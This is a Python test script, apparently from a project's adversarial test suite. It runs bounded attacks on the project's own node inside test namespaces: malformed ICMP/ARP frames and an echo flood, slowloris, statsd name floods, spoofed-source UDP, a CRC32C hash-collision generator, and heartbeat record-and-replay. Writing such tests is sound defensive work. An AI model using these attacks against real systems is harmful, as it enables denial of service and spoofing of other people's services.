#!/usr/bin/env python3
"""attack.py — the attacks of tests/adversary/run.sh (issue 14), standard library only.
Each subcommand runs one attack inside the namespace it is started in, bounded in time,
and prints one JSON line of what it saw; run.sh asserts on it.

  l1 IFACE OUR_MAC NODE_IP SRC_IP      raw frames on IFACE (AF_PACKET): ICMP echo and ARP
                                       requests from sources that are not unicast and with
                                       IP options (none may be answered), then a burst of
                                       FLOOD valid echo requests; every frame from the node
                                       is captured: replies counted, none larger than the
                                       largest request.
  slowloris HOST PORT SOURCE N         N TCP connections from SOURCE that send a request
                                       line and never end their headers; holds them until
                                       a file named by --until exists (or --hold-s passes).
  statsd HOST PORT                     C1: --datagrams datagrams of --lines new counter
                                       names each (statsd), names numbered from --first,
                                       each datagram from a fresh socket (its own source
                                       port), paced by --gap-ms; reports what it sent.
  spoofed_statsd IFACE NODE_MAC NODE_IP SRC_IP COUNT
                                       COUNT statsd datagrams "NAME:1|c" in raw frames on
                                       IFACE from SRC_IP (any address: spoofed), paced a
                                       little so the veth's ring keeps them.
  trickle SOCKET                       connects to the management socket and sends
                                       "ready" one byte every --every-s seconds; reports
                                       when the server closed it.
  h1 NODE_IP PORT                      --names N statsd counter names that all collide
                                       under the name hash before layout 6 (CRC32C, the
                                       public seed 0x7a11c0de: one hash, so one probe run
                                       at any table size), sent --rounds times as statsd
                                       lines to NODE_IP:PORT (UDP).
  hb-record IFACE SENDER PORT OUT      captures (AF_PACKET on IFACE) the UDP payloads to
                                       PORT that are heartbeats of node SENDER ("TH", its
                                       id at byte 4) for --seconds; writes the last one, in
                                       hex, to OUT (issue 14, M3: a recording on the wire).
  hb-replay SOURCE PORT TARGET A B     sends the recorded heartbeats A and B (hex files)
                                       in turn from SOURCE:PORT (the dead node's address)
                                       to TARGET:PORT, one every --every-ms, for --seconds.

Nothing is sent anywhere but the test's namespaces."""
import argparse
import json
import os
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ETH_P_ARP = 0x0806
ETH_P_IP = 0x0800


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def mac_bytes(text):
    return bytes(int(part, 16) for part in text.split(":"))


def echo_frame(dst_mac, src_mac, src_ip, dst_ip, ident, seq, options=b""):
    """An Ethernet frame with an ICMP echo request (IP options appended to the header)."""
    icmp = struct.pack("!BBHHH", 8, 0, 0, ident, seq) + b"adversary-probe!" * 2
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    ihl = 5 + len(options) // 4
    header = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, ihl * 4 + len(icmp), ident, 0, 64, 1, 0,
                         socket.inet_aton(src_ip), socket.inet_aton(dst_ip)) + options
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + header + icmp


def arp_frame(src_mac, sender_mac, sender_ip, target_ip):
    body = struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, 1, sender_mac,
                       socket.inet_aton(sender_ip), b"\0" * 6, socket.inet_aton(target_ip))
    return b"\xff" * 6 + src_mac + struct.pack("!H", ETH_P_ARP) + body


def capture(sock, node_mac, seconds, sink):
    """Frames from node_mac until seconds pass: (kind, size) appended to sink."""
    end = time.monotonic() + seconds
    while True:
        left = end - time.monotonic()
        if left <= 0:
            return
        sock.settimeout(left)
        try:
            frame = sock.recv(65535)
        except socket.timeout:
            return
        if len(frame) < 14 or frame[6:12] != node_mac:
            continue
        ethertype = struct.unpack("!H", frame[12:14])[0]
        if ethertype == ETH_P_ARP:
            sink.append(("arp", len(frame)))
        elif ethertype == ETH_P_IP and len(frame) >= 34 and frame[23] == 1 and frame[34] == 0:
            sink.append(("echo_reply", len(frame)))
        else:
            sink.append(("other", len(frame)))


def attack_l1(args):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((args.iface, 0))
    our_mac = mac_bytes(open("/sys/class/net/%s/address" % args.iface).read().strip())
    node_mac = mac_bytes(args.node_mac)
    group_mac = bytes.fromhex("01005e000001")
    record_route = bytes([7, 39, 4]) + b"\0" * 36 + b"\0"  # 40 bytes of options
    bad = [
        echo_frame(node_mac, our_mac, "255.255.255.255", args.node_ip, 1, 1),
        echo_frame(node_mac, our_mac, "224.0.0.1", args.node_ip, 1, 2),
        echo_frame(node_mac, our_mac, "0.0.0.0", args.node_ip, 1, 3),
        echo_frame(node_mac, group_mac, args.src_ip, args.node_ip, 1, 4),
        echo_frame(node_mac, our_mac, args.src_ip, args.node_ip, 1, 5, record_route),
        arp_frame(our_mac, our_mac, "255.255.255.255", args.node_ip),
        arp_frame(group_mac, group_mac, args.src_ip, args.node_ip),
    ]
    seen = []
    largest = 0
    for frame in bad:
        largest = max(largest, len(frame))
        sock.send(frame)
    capture(sock, node_mac, 1.0, seen)
    answered_bad = len(seen)
    flood = [echo_frame(node_mac, our_mac, args.src_ip, args.node_ip, 2, i) for i in range(args.flood)]
    for i, frame in enumerate(flood):
        largest = max(largest, len(frame))
        sock.send(frame)
        if i % 16 == 15:
            time.sleep(0.001)  # so the veth and af_packet's ring keep them all: not a timing check
    flood_seen = []
    capture(sock, node_mac, 2.0, flood_seen)
    replies = sum(1 for kind, _ in flood_seen if kind == "echo_reply")
    report = {"bad_sent": len(bad), "bad_answered": answered_bad, "flood_sent": args.flood,
              "flood_replies": replies, "largest_request": largest,
              "largest_reply": max([size for _, size in seen + flood_seen] or [0])}
    print(json.dumps(report))
    return 0


def udp_frame(dst_mac, src_mac, src_ip, dst_ip, src_port, dst_port, payload):
    """An Ethernet frame with a UDP datagram (UDP checksum 0: none, allowed in IPv4)."""
    udp = struct.pack("!HHHH", src_port, dst_port, 8 + len(payload), 0) + payload
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0,
                         socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + header + udp


def attack_spoofed_statsd(args):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((args.iface, 0))
    our_mac = mac_bytes(open("/sys/class/net/%s/address" % args.iface).read().strip())
    frame = udp_frame(mac_bytes(args.node_mac), our_mac, args.src_ip, args.node_ip, 40000,
                      args.port, ("%s:1|c" % args.name).encode())
    for i in range(args.count):
        sock.send(frame)
        if (i + 1) % args.pace_every == 0:
            time.sleep(0.002)  # pacing only: the af_packet ring holds a few hundred frames
    print(json.dumps({"sent": args.count, "source": args.src_ip, "name": args.name}))
    return 0


def attack_slowloris(args):
    held = []
    for _ in range(args.count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((args.source, 0))
        s.settimeout(2)
        try:
            s.connect((args.host, args.port))
            s.send(b"GET /health/live HTTP/1.0\r\n")
            held.append(s)
        except OSError:
            s.close()
    open(args.ready, "w").close()
    end = time.monotonic() + args.hold_s
    while time.monotonic() < end and not os.path.exists(args.until):
        time.sleep(0.05)
    still_open = 0
    for s in held:
        s.setblocking(False)
        try:
            s.recv(1)  # b"": closed by the server; bytes: answered (not held either)
        except BlockingIOError:
            still_open += 1  # nothing to read, not closed: the server keeps it
        except OSError:
            pass
        s.close()
    print(json.dumps({"tried": args.count, "connected": len(held), "held_at_end": still_open}))
    return 0


def attack_trickle(args):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(args.socket)
    start = time.monotonic()
    sent = 0
    closed_after = None
    # Bounded: --bytes bytes at most, one every --every-s.
    for i in range(args.bytes):
        try:
            s.send(b"ready"[i % 5:i % 5 + 1])
            sent += 1
        except OSError:
            closed_after = time.monotonic() - start
            break
        time.sleep(args.every_s)
        s.setblocking(False)
        try:
            s.recv(256)  # the refusal or the close: the server ended it
            closed_after = time.monotonic() - start
            break
        except BlockingIOError:
            pass
        s.setblocking(True)
    print(json.dumps({"bytes_sent": sent, "closed_after_s": closed_after}))
    return 0


# ---- H1: names colliding under the old public name hash ---------------------------

OLD_NAME_HASH_SEED = 0x7A11C0DE
CRC32C_TABLE = []
for _byte in range(256):
    _crc = _byte
    for _ in range(8):
        _crc = (_crc >> 1) ^ (0x82F63B78 & -(_crc & 1))
    CRC32C_TABLE.append(_crc)


def crc32c_raw(data, crc):
    """CRC32C as rte_hash_crc updates it: no inversion in or out (tally_crc32c)."""
    for byte in data:
        crc = CRC32C_TABLE[(crc ^ byte) & 0xFF] ^ (crc >> 8)
    return crc


def old_name_hash(name):
    return crc32c_raw(name, OLD_NAME_HASH_SEED)


def colliding_names(count, target=0x1234ABCD, free=40):
    """count names of the form h1.P.xxxx whose old hash is target. The raw CRC is affine
    in the name's bits, so flipping bit 1 of a free byte ('a' <-> 'c') xors a fixed
    32-bit vector into it: solve the 32 linear equations over GF(2), and every choice
    of the free variables left is one more name."""
    names = []
    prefix_number = 0
    while len(names) < count:
        base = bytearray(b"h1.%d." % prefix_number + b"a" * free)
        start = len(base) - free
        zero = bytes(len(base))
        columns = []
        for i in range(free):
            delta = bytearray(zero)
            delta[start + i] = 0x02
            columns.append(crc32c_raw(bytes(delta), 0))
        want = old_name_hash(bytes(base)) ^ target
        # Gaussian elimination: rows are bit equations, unknowns the free bytes.
        rows = [(sum(((columns[i] >> bit) & 1) << i for i in range(free)), (want >> bit) & 1)
                for bit in range(32)]
        pivots = []
        for column in range(free):
            for r in range(len(pivots), len(rows)):
                if rows[r][0] >> column & 1:
                    rows[len(pivots)], rows[r] = rows[r], rows[len(pivots)]
                    break
            else:
                continue
            pivot = rows[len(pivots)]
            rows = [(m ^ pivot[0], v ^ pivot[1]) if i != len(pivots) and m >> column & 1 else (m, v)
                    for i, (m, v) in enumerate(rows)]
            pivots.append(column)
        if any(m == 0 and v for m, v in rows[len(pivots):]):
            prefix_number += 1
            continue
        free_columns = [c for c in range(free) if c not in pivots][:8]
        for choice in range(1 << len(free_columns)):
            chosen = {c for k, c in enumerate(free_columns) if choice >> k & 1}
            for i, column in enumerate(pivots):
                mask, value = rows[i]
                for c in chosen:
                    if mask >> c & 1:
                        value ^= 1
                if value:
                    chosen.add(column)
            name = bytearray(base)
            for c in chosen:
                name[start + c] ^= 0x02
            assert old_name_hash(bytes(name)) == target
            names.append(bytes(name))
            if len(names) == count:
                break
        prefix_number += 1
    return names


def attack_h1(args):
    names = colliding_names(args.names)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent = 0
    for _ in range(args.rounds):
        for first in range(0, len(names), 16):
            payload = b"".join(name + b":1|c\n" for name in names[first:first + 16])
            sock.sendto(payload, (args.node_ip, args.port))
            sent += 1
            if sent % 64 == 0:
                time.sleep(0.002)  # the veth's queue, not the node, is the limit here
    print(json.dumps({"names": len(names), "rounds": args.rounds, "datagrams": sent,
                      "old_hash": "%08x" % old_name_hash(names[0]),
                      "distinct_old_hashes": len({old_name_hash(n) for n in names})}))
    return 0


def attack_statsd(args):
    sent = 0
    names = 0
    for d in range(args.datagrams):
        first = args.first + d * args.lines
        lines = ["junk.%08x:1|c" % (first + i) for i in range(args.lines)]
        payload = "\n".join(lines).encode()
        assert len(payload) <= 1472
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(payload, (args.host, args.port))
        sent += 1
        names += args.lines
        time.sleep(args.gap_ms / 1000.0)  # pacing so the veth keeps them, not a timing check
    print(json.dumps({"datagrams": sent, "names": names}))
    return 0


def attack_hb_record(args):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((args.iface, 0))
    sock.settimeout(0.1)
    last, seen = None, 0
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        try:
            frame = sock.recv(2048)
        except socket.timeout:
            continue
        if len(frame) < 14 + 20 + 8 + 48 or struct.unpack_from("!H", frame, 12)[0] != ETH_P_IP:
            continue
        ihl = (frame[14] & 0x0F) * 4
        udp = 14 + ihl
        if frame[14 + 9] != socket.IPPROTO_UDP or struct.unpack_from("!H", frame, udp + 2)[0] != args.port:
            continue
        payload = frame[udp + 8:]
        if payload[:2] == b"TH" and struct.unpack_from("<H", payload, 4)[0] == args.sender:
            last, seen = payload[:48], seen + 1
    if last is not None:
        with open(args.out, "w") as f:
            f.write(last.hex())
    print(json.dumps({"captured": seen, "incarnation": struct.unpack_from("<I", last, 8)[0] if last else 0}))
    return 0 if last is not None else 1


def attack_hb_replay(args):
    recorded = [bytes.fromhex(open(path).read().strip()) for path in (args.first, args.second)]
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        sock.bind((args.source, args.port))
    except OSError:
        sock.bind((args.source, 0))
    sent = 0
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        sock.sendto(recorded[sent % 2], (args.target, args.port))
        sent += 1
        time.sleep(args.every_ms / 1000)
    print(json.dumps({"sent": sent}))
    return 0


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = p.add_subparsers(dest="attack", required=True)
    l1 = sub.add_parser("l1")
    l1.add_argument("iface")
    l1.add_argument("node_mac")
    l1.add_argument("node_ip")
    l1.add_argument("src_ip")
    l1.add_argument("--flood", type=int, default=200)
    slow = sub.add_parser("slowloris")
    slow.add_argument("host")
    slow.add_argument("port", type=int)
    slow.add_argument("source")
    slow.add_argument("count", type=int)
    slow.add_argument("--ready", required=True)
    slow.add_argument("--until", required=True)
    slow.add_argument("--hold-s", type=float, default=60)
    flood = sub.add_parser("statsd")
    flood.add_argument("host")
    flood.add_argument("port", type=int)
    flood.add_argument("--datagrams", type=int, default=20)
    flood.add_argument("--lines", type=int, default=60)
    flood.add_argument("--first", type=int, default=0)
    flood.add_argument("--gap-ms", type=float, default=2)
    spoofed = sub.add_parser("spoofed_statsd")
    spoofed.add_argument("iface")
    spoofed.add_argument("node_mac")
    spoofed.add_argument("node_ip")
    spoofed.add_argument("src_ip")
    spoofed.add_argument("count", type=int)
    spoofed.add_argument("--name", required=True)
    spoofed.add_argument("--port", type=int, default=8125)
    spoofed.add_argument("--pace-every", type=int, default=32)
    trickle = sub.add_parser("trickle")
    trickle.add_argument("socket")
    trickle.add_argument("--every-s", type=float, default=1.0)
    trickle.add_argument("--bytes", type=int, default=60)
    h1 = sub.add_parser("h1")
    h1.add_argument("node_ip")
    h1.add_argument("port", type=int)
    h1.add_argument("--names", type=int, default=4096)
    h1.add_argument("--rounds", type=int, default=3)
    record = sub.add_parser("hb-record")
    record.add_argument("iface")
    record.add_argument("sender", type=int)
    record.add_argument("port", type=int)
    record.add_argument("out")
    record.add_argument("--seconds", type=float, default=1.0)
    replay = sub.add_parser("hb-replay")
    replay.add_argument("source")
    replay.add_argument("port", type=int)
    replay.add_argument("target")
    replay.add_argument("first")
    replay.add_argument("second")
    replay.add_argument("--every-ms", type=float, default=20)
    replay.add_argument("--seconds", type=float, default=4)
    args = p.parse_args()
    attacks = {"l1": attack_l1, "slowloris": attack_slowloris, "statsd": attack_statsd,
               "trickle": attack_trickle, "h1": attack_h1,
               "spoofed_statsd": attack_spoofed_statsd,
               "hb-record": attack_hb_record, "hb-replay": attack_hb_replay}
    return attacks[args.attack](args)


if __name__ == "__main__":
    sys.exit(main())
